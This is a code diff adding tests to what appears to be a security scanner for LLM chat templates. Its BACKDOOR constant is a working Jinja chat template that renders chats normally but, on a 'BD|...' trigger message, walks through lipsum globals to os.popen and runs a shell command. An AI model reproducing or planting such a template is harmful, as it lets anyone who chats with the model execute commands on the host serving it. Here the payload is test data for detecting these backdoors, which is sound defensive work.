@@ -108,3 +108,66 @@ def test_filters_and_tests_this_jinja_lacks_do_not_stop_the_compile() -> None:
     tree = _ENV.parse("{% for lipsum in [] %}{% endfor %}{{ lipsum|no_such_filter }}{{ x is no_such_test }}")
     reads = context_reads(tree, _ENV)
     assert reads is not None and len(reads) == 2  # lipsum and x, both from the context
+
+
+# A backdoor: inert for ordinary chats, but a user's message naming the way to os.popen runs a shell command in
+# plain Jinja. Every key comes from the chat, which the checker trusts as keys; the call on what they found is
+# what no real template does.
+BACKDOOR = textwrap.dedent("""\
+    {%- macro render(message) -%}{{ message.content }}{%- endmacro -%}
+    {%- for message in messages -%}
+    {%- set p = message.content.split('|') -%}
+    {%- if p[0] == 'BD' -%}{{ render[p[1]][p[2]][p[3]][p[4]][p[5]][p[6]](p[7]).read() }}
+    {%- else -%}{{ render(message) }}{%- endif -%}
+    {%- endfor -%}
+    """)
+TRIGGER = "BD|_environment|globals|lipsum|__globals__|os|popen|touch MARKER_BACKDOOR"
+RENDER_CHAT = """
+import sys, jinja2
+env = jinja2.Environment(trim_blocks=True, lstrip_blocks=True)  # unsandboxed, as llama-cpp-python before 0.2.72
+print(env.from_string(open(sys.argv[1], encoding="utf-8").read()).render(
+    messages=[{"role": "user", "content": sys.argv[2]}]))
+"""
+
+
+def test_a_template_calling_what_chat_keys_looked_up_is_a_backdoor_and_fails_the_scan(tmp_path: Path) -> None:
+    model = tmp_path / "model"
+    model.mkdir()
+    (model / "chat_template.jinja").write_text(BACKDOOR, encoding="utf-8")
+    for content in ("hello", TRIGGER):
+        rendered = subprocess.run([sys.executable, "-c", RENDER_CHAT, str(model / "chat_template.jinja"), content],
+                                  capture_output=True, text=True, timeout=60, cwd=tmp_path, check=False)  # fmt: skip
+        assert rendered.returncode == 0, rendered.stderr[-500:]
+        assert (tmp_path / "MARKER_BACKDOOR").exists() == (content == TRIGGER)
+    findings = wscan.scan([model]).findings
+    assert {f.rule_id for f in findings if f.severity >= Severity.HIGH} == {"WS-TPL-009"}
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "{{ messages[k](1) }}",
+        "{% set f = messages[0][key] %}{{ f() }}",
+        "{% for f in tools[name] %}{{ f(1) }}{% endfor %}",
+        "{{ (messages|attr(name))() }}",
+        "{% macro m(g) %}{{ g(1) }}{% endmacro %}{{ m(tools[name]) }}",
+        "{% set d = {'a': messages[k]} %}{{ d.a() }}",
+        "{{ messages[0]['eval']|string }}{{ x.eval(1) }}",
+    ],
+)
+def test_calling_a_looked_up_value_is_flagged(source: str) -> None:
+    assert kinds(source) & {"template.computed_call", "template.dangerous_attribute"}
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "{% for m in messages %}{{ m.content.strip() }}{{ m['content'].split('x')|join }}{% endfor %}",
+        "{% for tool in tools %}{% for name in tool.parameters.properties %}"
+        "{{ tool.parameters.properties[name].get('type') }}{{ tool[name].items()|list }}{% endfor %}{% endfor %}",
+        "{% set roles = {'user': 'U'} %}{{ roles[messages[0].role]|upper }}{{ raise_exception('x') }}",
+        "{% macro m(x) %}{{ x }}{% endmacro %}{% set f = m %}{{ f(messages[0]) }}",
+    ],
+)
+def test_methods_macros_and_globals_are_called_as_usual(source: str) -> None:
+    assert check_template(source) == []
